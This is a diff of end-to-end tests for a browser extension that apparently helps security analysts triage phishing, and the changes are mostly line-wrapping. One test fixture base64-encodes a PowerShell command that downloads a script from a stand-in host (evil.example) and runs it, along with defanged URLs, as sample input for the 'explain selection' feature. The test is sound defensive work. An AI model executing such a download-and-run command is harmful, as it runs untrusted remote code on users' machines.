@@ -15,7 +15,10 @@ afterAll(() => analyst.close());
 describe('the panel outside the page', () => {
   it('shows the same in a tab, where high impact can be approved', async () => {
     const worker = await analyst.practice.worker();
-    const tab = await worker.evaluate(async (url) => (await chrome.tabs.query({})).find((t) => t.url?.startsWith(url))?.id, analyst.page.url().split('#')[0] ?? '');
+    const tab = await worker.evaluate(
+      async (url) => (await chrome.tabs.query({})).find((t) => t.url?.startsWith(url))?.id,
+      analyst.page.url().split('#')[0] ?? '',
+    );
     const page = await analyst.practice.context.newPage();
     await page.goto(`chrome-extension://${extensionId}/panel.html?tab=${tab}`);
     await page.locator('[data-verdict="malicious"]').waitFor();
@@ -23,7 +26,10 @@ describe('the panel outside the page', () => {
     await high.getByRole('button', { name: 'Approve', exact: true }).click();
     await high.getByText(/Approved by an analyst, signed/).waitFor();
     // The docked panel is told too.
-    await (await analyst.panel()).getByText(/Approved by an analyst, signed/).first().waitFor();
+    await (await analyst.panel())
+      .getByText(/Approved by an analyst, signed/)
+      .first()
+      .waitFor();
     await page.close();
   });
 
@@ -31,15 +37,31 @@ describe('the panel outside the page', () => {
     const panel = await analyst.panel();
     await panel.getByRole('button', { name: 'Open in the browser’s side panel' }).click();
     const worker = await analyst.practice.worker();
-    await expect.poll(() => worker.evaluate(async () => (await chrome.runtime.getContexts({ contextTypes: ['SIDE_PANEL' as chrome.runtime.ContextType] })).length)).toBe(1);
+    await expect
+      .poll(() =>
+        worker.evaluate(
+          async () =>
+            (await chrome.runtime.getContexts({ contextTypes: ['SIDE_PANEL' as chrome.runtime.ContextType] })).length,
+        ),
+      )
+      .toBe(1);
     await expect.poll(() => analyst.page.locator('sidelight-panel').count()).toBe(0);
     // With a panel beside the page, a press on the launcher docks no second one.
     await analyst.page.bringToFront();
     await analyst.investigate();
     await analyst.page.waitForTimeout(800);
     expect(await analyst.page.locator('sidelight-panel').count()).toBe(0);
-    await worker.evaluate(async () => chrome.sidePanel.close({ windowId: (await chrome.windows.getCurrent()).id ?? 0 }));
-    await expect.poll(() => worker.evaluate(async () => (await chrome.runtime.getContexts({ contextTypes: ['SIDE_PANEL' as chrome.runtime.ContextType] })).length)).toBe(0);
+    await worker.evaluate(async () =>
+      chrome.sidePanel.close({ windowId: (await chrome.windows.getCurrent()).id ?? 0 }),
+    );
+    await expect
+      .poll(() =>
+        worker.evaluate(
+          async () =>
+            (await chrome.runtime.getContexts({ contextTypes: ['SIDE_PANEL' as chrome.runtime.ContextType] })).length,
+        ),
+      )
+      .toBe(0);
   });
 });
 
@@ -50,7 +72,10 @@ describe('explain selection', () => {
     await worker.evaluate(async (url) => {
       const tab = (await chrome.tabs.query({})).find((t) => t.url?.startsWith(url));
       const encoded = btoa('powershell iwr https://evil.example/run.ps1 | iex');
-      (chrome.contextMenus.onClicked as unknown as { dispatch(info: object, tab: unknown): void }).dispatch({ menuItemId: 'explain', selectionText: `cmd /c ${encoded} bit.ly hxxps://bit[.]ly/x 10.0.0.5` }, tab);
+      (chrome.contextMenus.onClicked as unknown as { dispatch(info: object, tab: unknown): void }).dispatch(
+        { menuItemId: 'explain', selectionText: `cmd /c ${encoded} bit.ly hxxps://bit[.]ly/x 10.0.0.5` },
+        tab,
+      );
     }, analyst.page.url().split('#')[0] ?? '');
     const panel = await analyst.panel();
     await panel.getByText(/^Selection: cmd/).waitFor();
@@ -67,7 +92,11 @@ describe('the docked panel', () => {
     const panel = await analyst.panel();
     await panel.locator('.alert .title', { hasText: await subjectOf('phish/account-limited.eml') }).waitFor();
     await analyst.verdict();
-    const room = () => analyst.page.evaluate(() => [document.documentElement.style.marginLeft, document.documentElement.style.marginRight]);
+    const room = () =>
+      analyst.page.evaluate(() => [
+        document.documentElement.style.marginLeft,
+        document.documentElement.style.marginRight,
+      ]);
     await expect.poll(room).toEqual(['', '380px']);
     await panel.getByRole('button', { name: 'Fold away' }).click();
     await expect.poll(room).toEqual(['', '34px']);
